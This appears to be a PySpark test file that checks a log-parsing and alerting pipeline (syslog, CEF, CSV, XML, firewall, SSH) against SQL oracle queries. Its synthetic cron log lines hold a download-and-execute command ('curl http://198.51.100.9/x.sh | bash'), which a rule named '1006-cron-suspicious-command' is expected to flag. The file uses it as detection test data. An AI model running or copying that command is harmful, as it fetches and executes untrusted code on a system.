parsed("parse_rfc5424", lambda e: cat("<", (F.col("event_id") % 192).cast("string"), '>1 2024-01-02T03:04:05Z host', (F.col("user_id") % 5).cast("string"), " app ", s("event_id"), ' - [x@1 ip="', F.col("src_ip"), '" q="a\\"b"] hello there'), lambda: [part("format"), part("severity"), part("facility"), part("hostname"), part("proc_id"), part("msg_id"), part("message"), f_("ip"), f_("q")], "SELECT event_id, 'rfc5424' AS format, (['emergency','alert','critical','error','warning','notice','informational','debug'])[event_id % 192 % 8 + 1] AS severity, coalesce((['kern','user','mail','daemon','auth','syslog','lpr','news','uucp','cron','authpriv','ftp','unknown','unknown','unknown','unknown','local0','local1','local2','local3','local4','local5','local6','local7'])[event_id % 192 // 8 + 1], 'unknown') AS facility, 'host' || (user_id % 5) AS hostname, CAST(event_id AS VARCHAR) AS proc_id, CAST(NULL AS VARCHAR) AS msg_id, 'hello there' AS message, src_ip AS ip, 'a\"b' AS q FROM ev")
parsed("parse_rfc3164", lambda e: cat("<34>Jul  ", (F.col("event_id") % 9 + 1).cast("string"), " 03:04:05 gw sshd[", s("event_id"), "]: Failed password for ", F.col("src_ip")), lambda: [part("format"), part("timestamp"), part("app_name"), part("proc_id"), part("message"), F.date_format(parsers.event_time(F.col("parsed.timestamp"), F.lit("2024-02-01").cast("timestamp")), "yyyy-MM-dd HH:mm:ss").alias("at")], "SELECT event_id, 'rfc3164' AS format, 'Jul  ' || (event_id % 9 + 1) || ' 03:04:05' AS timestamp, 'sshd' AS app_name, CAST(event_id AS VARCHAR) AS proc_id, 'Failed password for ' || src_ip AS message, '2024-07-0' || (event_id % 9 + 1) || ' 03:04:05' AS at FROM ev")
parsed("parse_second_pass", lambda e: cat("<13>Jul  1 03:04:05 gw box: CEF:0|v|p|1|", s("event_id"), "|n|5|src=", F.col("src_ip")), lambda: [part("format"), part("hostname"), part("msg_id"), f_("_transport", "transport"), f_("src")], "SELECT event_id, 'cef' AS format, 'gw' AS hostname, CAST(event_id AS VARCHAR) AS msg_id, 'rfc3164' AS transport, src_ip AS src FROM ev")
parsed("parse_csv", lambda e: cat(s("event_id"), ',"a, ""b""",', F.col("src_ip"), ",x"), lambda: [part("format"), f_("col_1"), f_("col_2")], "SELECT event_id, 'csv' AS format, 'a, \"b\"' AS col_1, src_ip AS col_2 FROM ev")
parsed("parse_xml", lambda e: cat('<ev id="', s("event_id"), '"><src>', F.col("src_ip"), "</src><msg>hi</msg></ev>"), lambda: [part("format"), part("message"), f_("ev.@id", "id"), f_("ev.src", "src")], "SELECT event_id, 'xml' AS format, 'hi' AS message, CAST(event_id AS VARCHAR) AS id, src_ip AS src FROM ev")
parsed("parse_yaml", lambda e: cat("host: h1\nuser: ", F.col("event_type"), "\n- one"), lambda: [part("format"), part("hostname"), f_("user"), f_("[0]", "item")], "SELECT event_id, 'yaml' AS format, 'h1' AS hostname, event_type AS \"user\", 'one' AS item FROM ev")
parsed("parse_plain", lambda e: cat("  just words ", F.col("event_type"), " "), lambda: [part("format"), part("message")], "SELECT event_id, 'plain' AS format, 'just words ' || event_type AS message FROM ev")


@register("parse_filterlog", "SELECT event_id, CASE WHEN event_type = 'purchase' THEN 'ALLOW' ELSE 'BLOCK' END AS action, src_ip, dst_ip, CASE event_id % 3 WHEN 0 THEN 'TCP' WHEN 1 THEN 'UDP' ELSE 'ICMP' END AS protocol, CASE WHEN event_id % 3 < 2 THEN dst_port END AS dst_port FROM ev")
def parse_filterlog(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = load_events(spark, sf_dir)
    proto = codes.choose(F.col("event_id") % 3, {0: "tcp", 1: "udp", 2: "icmp"})
    line = cat("66,,,170,re1,match,", F.when(F.col("event_type") == "purchase", "pass").otherwise("block"), ",in,4,0x0,,128,40,0,none,6,", proto, ",350,", F.col("src_ip"), ",", F.col("dst_ip"), ",999,", F.col("dst_port"), ",330")
    ok, found = parsers.filterlog(line)
    of = lambda n: F.get(F.array(found["fields"][n]), F.lit(0)).alias(n)
    return e.filter(ok).select("event_id", *[of(n) for n in ("action", "src_ip", "dst_ip", "protocol", "dst_port")])


def ssh_lines(e: DataFrame) -> Column:
    kind = F.col("event_id") % 3
    text_ = F.when(kind == 0, cat("Failed password for invalid user ", F.col("event_type"), " from ", F.col("src_ip"), " port 22")).when(kind == 1, cat("Accepted publickey for ", F.col("event_type"), " from ", F.col("src_ip"), " port 22")).otherwise(cat("Invalid user ", F.col("event_type"), " from ", F.col("src_ip")))
    return cat("<38>Jul  1 03:04:05 gw sshd-session[7]: ", text_)


@register("extract_regex_firstwins", "SELECT event_id, 'sshd' AS _source_type, CASE event_id % 3 WHEN 0 THEN 'ssh_auth_failure' WHEN 1 THEN 'ssh_auth_success' ELSE 'ssh_invalid_user' END AS event_type, event_type AS username, src_ip FROM ev")
def extract_regex_firstwins(spark: SparkSession, sf_dir: str) -> DataFrame:
    lines = lines_of(ssh_lines)(spark, sf_dir).withColumn("source_addr", F.lit("10.9.9.9"))
    ssh = [r for r in extract.shipped() if r.when.get("app_name") == "sshd"]
    keyed = lines.withColumn("value", F.concat("value", F.lit(" #"), F.col("event_id").cast("string")))
    events = ingest.normalize(keyed, F.lit("2024-07-02").cast("timestamp"), rules=ssh)
    of = lambda n: F.get(F.array(F.col("fields")[n]), F.lit(0)).alias(n)
    return events.select(F.regexp_extract("_raw", r"#(\d+)$", 1).cast("long").alias("event_id"), "_source_type", of("event_type"), of("username"), of("src_ip"))


@register("extract_set_pass2", "SELECT event_id, CASE WHEN event_id % 2 = 0 THEN 'even' END AS parity, CASE WHEN event_id % 2 = 0 THEN 'second' ELSE 'none' END AS stage, CASE WHEN event_id % 2 = 0 THEN 'critical' ELSE 'critical' END AS severity FROM ev")
def extract_set_pass2(spark: SparkSession, sf_dir: str) -> DataFrame:
    rules = [extract.ExtractRule({"app_name": "app"}, [r"n=(?P<number>\d*[02468])(?!\d)"]), extract.ExtractRule({"app_name": "app"}, [], {"stage": "none"}), extract.ExtractRule({"stage": "none"}, [r"(?P<parity>even)"]), extract.ExtractRule({"parity": "even"}, [], {"stage": "second"})]
    e = load_events(spark, sf_dir)
    line = cat("<10>Jul  1 03:04:05 gw app: n=", s("event_id"), F.when(F.col("event_id") % 2 == 0, " even").otherwise(" odd"))
    lines = e.select(line.alias("value"), F.lit("x").alias("source_addr"))
    events = ingest.normalize(lines, F.lit("2024-07-02").cast("timestamp"), rules=rules)
    of = lambda n: F.get(F.array(F.col("fields")[n]), F.lit(0)).alias(n)
    return events.select(F.regexp_extract("_raw", r"n=(\d+)", 1).cast("long").alias("event_id"), of("parity"), of("stage"), "severity")


# ---- functions and rendering --------------------------------------------------------------------------------------


# ---- from raw lines to alerts ---------------------------------------------------------------------------------------


def raw_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A log line for each event: of sshd, sudo, the kernel's firewall, cron, or haproxy, with the event's number as pid."""
    e = load_events(spark, sf_dir)
    head = lambda app: F.concat(F.lit("<38>1 "), F.date_format("ts", "yyyy-MM-dd'T'HH:mm:ss'Z'"), F.lit(f" host {app} "), F.col("event_id").cast("string"), F.lit(" - - "))
    cron = F.when(F.col("event_id") % 3 == 0, "curl http://198.51.100.9/x.sh | bash").otherwise("run-parts --report /etc/cron.hourly")
    sudo = F.when(F.col("event_id") % 2 == 0, "/bin/bash").otherwise("/usr/bin/id")
    line = F.when(F.col("event_type") == "error", F.concat(head("sshd-session"), F.lit("Failed password for root from "), F.col("src_ip"), F.lit(" port 4242 ssh2")))
    line = line.when(F.col("event_type") == "signup", F.concat(head("sudo"), F.lit("bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND="), sudo))
    line = line.when(F.col("event_type") == "purchase", F.concat(head("kernel"), F.lit("[12.3] [UFW BLOCK] IN=eth0 OUT= SRC="), F.col("src_ip"), F.lit(" DST=10.0.0.1 LEN=40 PROTO=TCP SPT=4444 DPT=22 TTL=54")))
    line = line.when(F.col("event_type") == "click", F.concat(head("CRON"), F.lit("(root) CMD ("), cron, F.lit(")")))
    line = line.otherwise(F.concat(head("haproxy"), F.lit("Connect from "), F.col("src_ip"), F.lit(":50001 to 192.168.178.12:8006 (front/HTTP)")))
    return e.select(line.alias("value"), F.lit("10.9.9.9").alias("source_addr"))


def fired(spark: SparkSession, sf_dir: str) -> DataFrame:
    """What the standard pack finds in the lines, by the standard overrides, extraction rules and suppressions."""
    events = ingest.normalize(raw_lines(spark, sf_dir), F.lit("2024-02-01").cast("timestamp"))
    resolve = search.event_field(events)
    return rl.match_rules(events, rl.shipped(), resolve, events["line"], sp.suppressed(sp.shipped(), resolve))


DETECTED = """, hit AS (
  SELECT event_id, event_type, '1001-ssh-brute-force' AS rule_id, 'medium' AS level FROM ev WHERE event_type = 'error'
  UNION ALL SELECT event_id, event_type, '1004-suspicious-ssh', 'high' FROM ev WHERE event_type = 'error' AND NOT starts_with(src_ip, '10.0.')
  UNION ALL SELECT event_id, event_type, '1002-sudo-execution', 'low' FROM ev WHERE event_type = 'signup'
  UNION ALL SELECT event_id, event_type, '1008-sudo-privilege-escalation', 'high' FROM ev WHERE event_type = 'signup' AND event_id % 2 = 0
  UNION ALL SELECT event_id, event_type, '1003-iptables-deny', 'low' FROM ev WHERE event_type = 'purchase'
  UNION ALL SELECT event_id, event_type, '1006-cron-suspicious-command', 'high' FROM ev WHERE event_type = 'click' AND event_id % 3 = 0
  UNION ALL SELECT event_id, event_type, '1012-haproxy-connect-volume', 'low' FROM ev WHERE event_type IS NULL OR event_type NOT IN ('error', 'signup', 'purchase', 'click')
)"""


@register("detect_rules", f"WITH {EVENTS_SQL}{DETECTED} SELECT CAST(event_id AS VARCHAR) AS event_id, rule_id, level FROM hit")
def detect_rules(spark: SparkSession, sf_dir: str) -> DataFrame:
    return fired(spark, sf_dir).select(F.col("proc_id").alias("event_id"), "rule_id", "level")


@register("detect_by_rule", f"WITH {EVENTS_SQL}{DETECTED} SELECT rule_id, count(*) AS count FROM hit GROUP BY 1")
def detect_by_rule(spark: SparkSession, sf_dir: str) -> DataFrame:
    return a.group_count(fired(spark, sf_dir), "rule_id")


@register("detect_sources", f"SELECT CASE event_type WHEN 'error' THEN 'sshd' WHEN 'signup' THEN 'sudo' WHEN 'purchase' THEN 'iptables' WHEN 'click' THEN 'cron' ELSE 'haproxy' END AS _source_type, src_ip, strftime(event_sec, '{SHOWN}') AS event_sec, CAST(event_id AS VARCHAR) AS event_id FROM (SELECT event_type, event_sec, event_id, CASE WHEN event_type IN ('signup', 'click') THEN '' ELSE src_ip END AS src_ip FROM ev)")
def detect_sources(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Labels, addresses and times of the lines, as the event table has them."""
    events = ingest.promote(ingest.normalize(raw_lines(spark, sf_dir), F.lit("2024-02-01").cast("timestamp")), ["src_ip"])
    return events.select("_source_type", "src_ip", show(F.col("event_sec")).alias("event_sec"), F.col("proc_id").alias("event_id"))


@register("sanitize_source", "SELECT DISTINCT p_type, coalesce(nullif(trim(regexp_replace(p_type, '[^A-Za-z0-9._-]', '_', 'g'), '_'), ''), 'unknown') AS label FROM part")
def sanitize_source(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/part.parquet").select("p_type", text.sanitize(F.col("p_type")).alias("label")).distinct()


@register("severity_map", "SELECT event_id, (['emergency','alert','critical','error','warning','notice','informational','debug'])[event_id % 8 + 1] AS by_code, CASE event_id % 4 WHEN 0 THEN 'error' WHEN 1 THEN 'warning' WHEN 2 THEN 'emergency' END AS by_word FROM ev")
def severity_map(spark: SparkSession, sf_dir: str) -> DataFrame:
    word = codes.choose(F.col("event_id") % 4, {0: "ERR", 1: " warn ", 2: "panic", 3: "nothing"})
    return load_events(spark, sf_dir).select("event_id", codes.severity_of_priority(F.col("event_id")).alias("by_code"), codes.severity_of_word(word).alias("by_word"))


@register("synonyms", "SELECT event_id, CASE WHEN event_id % 2 = 0 THEN dst_ip ELSE src_ip END AS src_ip, dst_port FROM ev")
def synonyms(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = load_events(spark, sf_dir)
    line = cat('{"id":"', s("event_id"), '","src":"', F.col("src_ip"), '","dpt":"', F.col("dst_port"), '"', F.when(F.col("event_id") % 2 == 0, cat(',"src_ip":"', F.col("dst_ip"), '"')).otherwise(""), "}")
    events = ingest.normalize(e.select(line.alias("value"), F.lit("x").alias("source_addr")), F.lit("2024-07-02").cast("timestamp"), rules=[])
    of = lambda n: F.get(F.array(F.col("fields")[n]), F.lit(0))
    return events.select(of("id").cast("long").alias("event_id"), of("src_ip").alias("src_ip"), of("dst_port").alias("dst_port"))


@register("cidr_table", f"SELECT event_id, ({OCTETS}) BETWEEN 167772160 AND 167837695 AS in16, ({OCTETS}) = 167772160 + 65537 + 256 AS in32, true AS in0 FROM ev")
def cidr_table(spark: SparkSession, sf_dir: str) -> DataFrame:
    ip = F.col("src_ip")
    return load_events(spark, sf_dir).select("event_id", net.in_network(ip, "10.0.0.0/16").alias("in16"), net.in_network(ip, "10.1.1.1/32").alias("in32"), net.in_network(ip, "0.0.0.0/0").alias("in0"))


@register("dedup_key", "SELECT event_id, CASE WHEN event_id % 3 = 0 THEN substr(line, 1, 64) ELSE src_ip || '|' || CASE WHEN event_id % 3 = 1 THEN '' ELSE event_type END END AS key FROM ev")
def dedup_key(spark: SparkSession, sf_dir: str) -> DataFrame:
    k = F.col("event_id") % 3
    return load_events(spark, sf_dir).select("event_id", text.dedup_key(F.when(k != 0, F.col("src_ip")), F.when(k == 2, F.col("event_type")), F.col("line")).alias("key"))


@register("tsv_sidecar", f"SELECT strftime(event_sec, '{SHOWN}') || chr(9) || src_ip || chr(9) || dst_ip || chr(9) || event_type || chr(9) || severity || chr(9) || _source_type AS value FROM ev")
def tsv_sidecar(spark: SparkSession, sf_dir: str) -> DataFrame:
    return sinks.render(sinks.sidecar(load_events(spark, sf_dir).withColumn("timestamp", show(at()))), "tsv")


@register("json_render", "SELECT '{\"event_id\":\"' || event_id || '\",\"username\":\"' || username || '\",\"nothing\":null}' AS value FROM ev WHERE severity = 'critical'")
def json_render(spark: SparkSession, sf_dir: str) -> DataFrame:
    return sinks.render(search.run(load_events(spark, sf_dir), "SELECT event_id,username,nothing WHERE severity == critical"))


@register("rec_ids", "SELECT event_id, sha256(_source_type || '|' || strftime(event_sec, '%Y-%m-%d %H:%M:%S') || '|' || line) AS rec_id FROM ev")
def rec_ids(spark: SparkSession, sf_dir: str) -> DataFrame:
    return load_events(spark, sf_dir).select("event_id", F.sha2(F.concat_ws("|", "_source_type", show(at()), "line"), 256).alias("rec_id"))


@register("partition_range", "SELECT strftime(dt, '%Y-%m-%d') AS dt, hh, count(*) AS count FROM ev WHERE ts >= TIMESTAMP '2024-01-28 22:00:00' GROUP BY 1, 2")
def partition_range(spark: SparkSession, sf_dir: str) -> DataFrame:
    after = datetime(2024, 1, 28, 22, 30, tzinfo=UTC)
    return load_events(spark, sf_dir).filter(hour_range(F.col("dt"), F.col("hh"), after)).groupBy(F.date_format("dt", "yyyy-MM-dd").alias("dt"), "hh").agg(F.count(F.lit(1)).alias("count"))


def flagship(spark: SparkSession, sf_dir: str) -> DataFrame:
    return search.run(load_events(spark, sf_dir), "severity == critical GROUP BY _source_type,event_type LIMIT 20")


register("flagship", "SELECT _source_type, event_type, count(*) AS count FROM ev WHERE severity = 'critical' GROUP BY 1, 2 ORDER BY 3 DESC, 1, 2 LIMIT 20")(flagship)


def queries() -> dict[str, Query]:
    return dict(QUERIES)


def oracle_sql() -> dict[str, str]:
    return dict(ORACLES)
